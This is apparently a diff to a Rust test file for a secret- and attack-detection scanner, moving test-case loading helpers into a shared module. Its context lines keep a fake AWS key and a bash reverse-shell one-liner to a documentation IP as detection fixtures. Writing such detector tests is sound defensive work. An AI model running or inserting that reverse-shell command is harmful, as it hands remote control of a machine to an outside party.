@@ -6,45 +6,16 @@
 
 mod common;
 
+use common::cases::{cases, spec};
 use common::encoded::{base64, base64url, encoded_forms, hex, with_zero_width};
 use common::*;
 use guardian_parser::decode::encoded::{is_folded_rule, EncodedView, Scope};
 use guardian_parser::inspect::Inspector;
-use guardian_parser::scan::{Direction, Platform, Registry, RuleSpec};
+use guardian_parser::scan::{Direction, Platform, Registry};
 use proptest::prelude::*;
 
 const KEY: &str = "AKIA2E3F4G5H6I7J2K3L";
 const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
-
-struct Case {
-    line: usize,
-    positive: bool,
-    pattern: String,
-    input: Vec<u8>,
-}
-
-fn cases() -> Vec<Case> {
-    include_str!("cases/patterns.txt")
-        .lines()
-        .enumerate()
-        .filter(|(_, l)| l.starts_with("+ ") || l.starts_with("- "))
-        .map(|(i, l)| {
-            let (pattern, input) = l[2..].split_once(' ').expect("case: sign, pattern, input");
-            Case {
-                line: i + 1,
-                positive: l.starts_with('+'),
-                pattern: pattern.to_string(),
-                input: unescape_case(input),
-            }
-        })
-        .collect()
-}
-
-fn spec(id: &str) -> Option<RuleSpec> {
-    guardian_parser::scan::builtin_rules()
-        .into_iter()
-        .find(|r| r.id == id)
-}
 
 fn patterns(found: &[guardian_parser::inspect::Detection]) -> Vec<String> {
     found.iter().map(|d| d.pattern.clone()).collect()
